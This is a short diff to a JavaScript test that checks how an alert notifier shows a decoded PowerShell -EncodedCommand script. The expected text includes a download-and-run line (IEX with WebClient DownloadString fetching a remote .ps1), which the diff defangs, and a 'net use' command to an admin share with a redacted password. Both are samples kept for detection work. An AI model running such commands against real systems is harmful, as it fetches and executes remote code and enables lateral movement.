@@ -22,7 +22,7 @@ describe('the decoded -EncodedCommand script in notifications', () => {
     expect(body).toContain([
       'DECODED POWERSHELL (-EncodedCommand, passwords redacted)',
       '  | $c = New-Object Net.WebClient',
-      "  | IEX $c.DownloadString('http://198.51.100.23/a.ps1') # [U+202E]hidden",
+      "  | IEX $c.DownloadString('hxxp://198[.]51[.]100[.]23/a.ps1') # [U+202E]hidden",
       // the detector's `***`, masked again by the notifier's own redaction
       '  | net use \\\\fs01\\c$ /password:[REDACTED]',
     ].join('\n'));
